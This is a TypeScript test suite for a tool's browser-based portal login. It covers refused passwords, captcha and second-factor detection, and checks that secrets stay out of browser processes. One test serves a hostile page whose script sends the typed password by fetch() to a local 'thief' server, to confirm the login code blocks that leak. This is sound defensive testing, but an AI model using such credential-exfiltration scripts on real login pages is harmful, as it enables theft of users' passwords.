/** Logging in: by the call, and by the portal's own page in a real headless browser. */

import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type RequestListener, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { Cancelled } from '../../src/errors.ts';
import { findBrowser, launch, logInByBrowser, logInOn } from '../../src/portal/browser-login.ts';
import { defaultProfile } from '../../src/portal/profile.ts';
import { COMMON, type Job, newJob, runStep } from '../support/action.ts';
import { startPortal } from '../support/portal.ts';

const ACCOUNT = { username: 'developer@example.com', password: 'p4ss "word" & more' };
const BROWSER = await findBrowser(process.env).catch(() => undefined);
if (!BROWSER) console.warn('No Chrome or Chromium here: the login by the browser is not tested. Set CHROME_BIN.');

const servers: Server[] = [];
afterAll(() => {
  for (const server of servers) server.close().closeAllConnections();
});

const cleanups: (() => unknown)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0)) await cleanup();
});

function jobWith(profile: unknown): Job {
  const job = newJob();
  cleanups.push(job.close);
  writeFileSync(join(job.workspace, 'portal.json'), JSON.stringify(profile));
  return job;
}

async function portalWithAccount() {
  const portal = await startPortal({ credentials: ACCOUNT, seed: { versions: ['1.0.0'] } });
  cleanups.push(portal.close);
  return {
    portal,
    inputs: {
      ...COMMON,
      'portal-url': portal.url,
      'portal-username': ACCOUNT.username,
      'portal-password': ACCOUNT.password,
      version: '1.0.0',
    },
  };
}

describe('by the call', () => {
  test('a refused password is tried once', async () => {
    const { portal, inputs } = await portalWithAccount();
    const step = await runStep({ ...inputs, stage: 'status', 'portal-password': 'wrong-password' });
    expect(step.outputs).toMatchObject({ verdict: 'failed', 'error-code': 'portal-unauthorized' });
    expect(portal.read().journal.map(({ operation, errorCode }) => [operation, errorCode])).toEqual([
      ['login', 'LOGIN_FAILED'],
    ]);
    expect(step.everything).not.toContain('wrong-password');
  });
});

describe.skipIf(!BROWSER)('by the page', () => {
  test('the built action logs in and releases; nothing is left behind', async () => {
    const { portal, inputs } = await portalWithAccount();
    const job = jobWith({ login: { by: 'browser' } });
    const seen: string[] = [];
    const step = await runStep(
      { ...inputs, stage: 'submit', 'portal-profile': 'portal.json' },
      {
        job,
        env: { CHROME_BIN: BROWSER, HOME: process.env['HOME'] },
        onStart: (child) => {
          const timer = setInterval(() => seen.push(...processesBelow(child.pid ?? 0)), 50);
          child.on('close', () => clearInterval(timer));
        },
      },
    );
    expect(step.outputs).toMatchObject({ verdict: 'succeeded', state: 'created' });
    expect(portal.effects()).toEqual(['login', 'createRelease']);
    expect(step.report.operations[0]).toMatchObject({ operation: 'login', ok: true });
    for (const secret of [ACCOUNT.password, encodeURIComponent(ACCOUNT.password)])
      expect(step.everything).not.toContain(secret);

    const browsers = seen.filter((process) => /--user-data-dir/.test(process));
    expect(browsers.length).toBeGreaterThan(0);
    for (const process of browsers) {
      expect(process).not.toContain(ACCOUNT.password);
      expect(process).not.toContain(ACCOUNT.username);
      expect(process).not.toContain('INPUT_');
      expect(process).not.toContain('--ignore-certificate-errors');
      expect(process).not.toContain('--remote-debugging-port');
    }
    expect(readdirSync(job.temp).filter((name) => name.includes('browser'))).toEqual([]);
  });

  // One browser for all the pages below: each gets a context of its own, as a login does.
  let browser: Browser;
  let folder: string;
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'browser-'));
    browser = await launch(String(BROWSER), folder, optionsFor('http://127.0.0.1'));
  }, 60_000);
  afterAll(async () => {
    await browser.close();
    rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
  });

  const optionsFor = (origin: string) => ({
    profile: defaultProfile,
    origin: new URL(origin),
    hosts: [],
    account: ACCOUNT,
    environment: process.env,
    tempDir: tmpdir(),
    signal: new AbortController().signal,
    redact: (text: string) => text,
    timeoutMs: 20_000,
  });
  const serve = async (page: RequestListener | string, host = '127.0.0.1') => {
    const html = (_: unknown, res: ServerResponse) => void res.setHeader('content-type', 'text/html').end(page);
    const server = createServer(typeof page === 'string' ? html : page);
    await new Promise<void>((resolve) => server.listen(0, host, resolve));
    servers.push(server);
    return `http://${host}:${(server.address() as AddressInfo).port}`;
  };
  const logIn = async (page: RequestListener | string) => {
    const context = await browser.createBrowserContext();
    return logInOn(await context.newPage(), optionsFor(await serve(page))).catch((error) => error);
  };
  const FORM = '<input id=username><input id=password type=password>';
  const onEnter = (script: string) =>
    `${FORM}<script>addEventListener('keydown', (e) => { if (e.key === 'Enter') { ${script} } })</script>`;

  test.concurrent('a refusal, a captcha and a second factor are named, and typed into once', async () => {
    const [refused, captcha, factor] = await Promise.all([
      logIn(
        onEnter(
          "document.body.append(Object.assign(document.createElement('p'), { role: 'alert', textContent: 'Password salah' }))",
        ),
      ),
      logIn(onEnter("document.body.innerHTML += '<div class=nc-container>slide</div>'")),
      logIn(onEnter("document.body.innerHTML += '<input autocomplete=one-time-code>'")),
    ]);
    expect(refused).toMatchObject({ code: 'portal-unauthorized', passing: false });
    expect(refused.found).toBe('The login was refused: Password salah.');
    expect(captcha.found).toContain('captcha');
    expect(factor.found).toContain('second factor');
  });

  test.concurrent('only cookies of the portal are taken, and data goes nowhere else', async () => {
    const stolen: string[] = [];
    const thief = await serve((req, res) => {
      stolen.push(`${req.method} ${req.url}`);
      res.end();
    }, '0.0.0.0');
    const page = onEnter(`
      const theft = { method: 'POST', mode: 'no-cors', body: document.getElementById('password').value };
      fetch('${thief}', theft).catch(() => {}).then(() => {
        document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview';
      })`);
    expect(await logIn(page)).toBe('SESSION=from-the-page');
    expect(stolen).toEqual([]);
  });

  test.concurrent('a page that leads to a host that may not have the password gets nothing', async () => {
    const elsewhere = await serve(FORM, '0.0.0.0');
    const error = await logIn((_, res) => res.writeHead(302, { location: elsewhere }).end());
    expect(error).toMatchObject({ code: 'portal-unexpected' });
    expect(error.found).toContain('nothing was typed');
  });

  test('a cancelled run ends the browser and leaves no folder', async () => {
    const job = newJob();
    cleanups.push(job.close);
    const controller = new AbortController();
    const origin = await serve((_, res) => {
      res.setHeader('content-type', 'text/html').end('<p>no form</p>');
      controller.abort();
    });
    const options = { ...optionsFor(origin), tempDir: job.temp, signal: controller.signal };
    await expect(logInByBrowser(options)).rejects.toThrow(Cancelled);
    expect(readdirSync(job.temp)).toEqual([]);
  });
});

test('no browser: what to install, or which input to use instead', async () => {
  await expect(findBrowser({ PATH: '' })).rejects.toMatchObject({ code: 'portal-unreachable' });
  const error = await findBrowser({ CHROME_BIN: '/nowhere/chrome' }).catch((thrown) => thrown);
  expect(error.message).toContain('portal-session');
});

/** Arguments and environments of a process's descendants (Linux). */
function processesBelow(pid: number): string[] {
  const { stdout } = spawnSync('ps', ['-e', '-o', 'pid=,ppid='], { encoding: 'utf8' });
  const parents = new Map(
    stdout
      .trim()
      .split('\n')
      .map((line) => line.trim().split(/\s+/).map(Number) as [number, number]),
  );
  const isBelow = (child: number): boolean => {
    const parent = parents.get(child);
    return parent === pid || (parent !== undefined && parent > 1 && isBelow(parent));
  };
  return [...parents.keys()].filter(isBelow).map((child) => {
    try {
      return ['cmdline', 'environ'].map((file) => readFileSync(`/proc/${child}/${file}`, 'utf8')).join('\n');
    } catch {
      return '';
    }
  });
}
